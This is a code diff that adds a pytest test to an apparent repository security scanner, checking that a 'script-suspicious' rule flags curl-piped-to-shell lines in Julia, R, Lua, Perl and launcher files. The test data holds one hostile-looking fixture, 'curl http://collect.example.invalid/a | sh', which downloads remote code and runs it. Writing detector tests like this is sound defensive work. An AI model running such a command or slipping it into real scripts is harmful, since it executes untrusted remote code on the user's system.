@@ -95,3 +95,10 @@ def test_commands_in_files_that_tools_act_upon(path: str) -> None:
 )
 def test_ordinary_commands_there_and_such_text_elsewhere(path: str, text: str) -> None:
     assert found("script-suspicious", repository({path: text})) == []
+
+
+@pytest.mark.parametrize("name", ["run.jl", "run.R", "run.lua", "start.desktop", "start.command", "run.pl"])
+def test_scripts_of_other_languages(name: str) -> None:
+    text = "run('curl http://collect.example.invalid/a | sh')\n"
+    assert severities("script-suspicious", repository({name: text})) == ["high"]
+    assert found("script-suspicious", repository({name: "print('hello')\nlibrary(torch)\n"})) == []
